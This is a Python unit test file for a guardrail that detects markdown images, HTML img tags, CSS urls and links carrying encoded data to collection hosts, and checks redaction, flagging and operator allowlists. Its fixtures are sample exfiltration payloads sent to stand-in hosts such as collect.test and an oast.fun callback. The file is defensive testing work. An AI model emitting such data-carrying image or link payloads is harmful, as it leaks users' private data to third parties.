"""Which addresses carry data out, and which are only long."""

import pytest

from broker.documents import read_yaml
from broker.errors import ConfigurationError
from broker.guardrails.exfiltration import make_exfiltration
from tests.unit.guardrails.kit import look, screen

EXFILTRATION = make_exfiltration(None)
HEX = b"the account of Anna is 4711".hex()
B64 = "bXkgcGFzc3dvcmQgaXMgaHVudGVyMg4Tk9QUVJTVFVW"


def found(text: str) -> list[tuple[str, str]]:
    return [(span.type, text[span.start : span.end]) for span in look(EXFILTRATION, text)]


@pytest.mark.parametrize(
    "text",
    [
        f"![status](https://collect.test/p.png?d={B64})",
        f"![a][1]\n\n[1]: https://collect.test/i?{HEX}",
        f'<img src="https://collect.test/{B64}.gif" width=1>',
        f"<img src=//collect.test/x?{HEX}>",
        "![ ](https://collect.test/p?note=my secret is here)",
        "![x](https://collect.test/p.png?to=anna.meier%40firma.de)",
        f"body {{ background: url('https://collect.test/{HEX}.png') }}",
    ],
)
def test_what_is_fetched_as_soon_as_it_is_shown_and_carries_data_is_an_image(text: str):
    ((kind, url),) = found(text)
    assert kind == "carrying-image"
    assert "collect.test" in url


@pytest.mark.parametrize(
    "text",
    [
        f"[more](https://collect.test/c?q={B64})",
        f"see https://collect.test/{HEX}/x.",
        "https://collect.test/log?data=Summary%20of%20the%20mails:%20nothing",
        f"<a href='//collect.test/?x={B64}'>report</a>",
        "https://x7f.oast.fun/?u=anna@firma.de",
    ],
)
def test_a_link_that_carries_data_is_found(text: str):
    assert [kind for kind, _ in found(text)] == ["carrying-link"]


@pytest.mark.parametrize(
    "text",
    [
        "https://github.com/acme/app/pull/8365/files#diff-23a05edff3d391a5d0eced982047407a029a4fa11ab075dfce9851675b2ad523",
        "https://news.test/2024/11/27/how-to-bake-bread-in-seven-easy-steps-without-an-oven",
        "https://files.test/f47ac10b-58cc-4372-a567-0e02b2c3d479/report.pdf",
        "https://shop.test/search?q=blue+running+shoes+size+42+for+men",
        "![logo](https://acme.test/assets/logo.png)",
        "![build](https://ci.test/badge.svg?branch=main)",
        "// a comment with abcdefghijklmnopqrstuvwxyz0123456789ABCDEF",
        "https://bucket.s3.eu-west-1.amazonaws.com/file?X-Amz-Signature=bc523916dd5f3741ac9ebc5aa99b445a15f3d7d",
        "see the etag d41d8cd98f00b204e9800998ecf8427e at https://cdn.test/d41d8cd98f00b204e9800998ecf8427e",
    ],
)
def test_addresses_that_are_long_by_nature_pass(text: str):
    assert found(text) == []


def test_an_image_is_taken_out_of_a_result_and_a_link_is_recorded():
    safe, findings = screen(
        {
            "content": [
                {
                    "type": "text",
                    "text": f"![s](https://collect.test/?d={B64}) [l](https://collect.test/?d={B64})",
                }
            ]
        }
    )
    text = safe["content"][0]["text"]
    assert text == f"![s]([redacted:carrying-image]) [l](https://collect.test/?d={B64})"
    assert [(f.type, f.action) for f in findings] == [("carrying-image", "redact"), ("carrying-link", "flag")]


def test_hosts_that_the_operator_names_may_be_given_data(tmp_path):
    path = tmp_path / "s.yaml"
    path.write_text('everywhere: ["*.acme.test"]\nconnectors:\n  notes: [collect.test]\n')
    lenient = make_exfiltration(read_yaml(path, "s.yaml"))
    text = f"https://collect.test/?d={B64} https://x.acme.test/?d={B64}"
    assert look(lenient, text) == []
    assert len(look(EXFILTRATION, text)) == 2
    path.write_text("everwhere: []\n")
    with pytest.raises(ConfigurationError, match=r"s\.yaml:1: unknown key `everwhere`"):
        make_exfiltration(read_yaml(path, "s.yaml"))
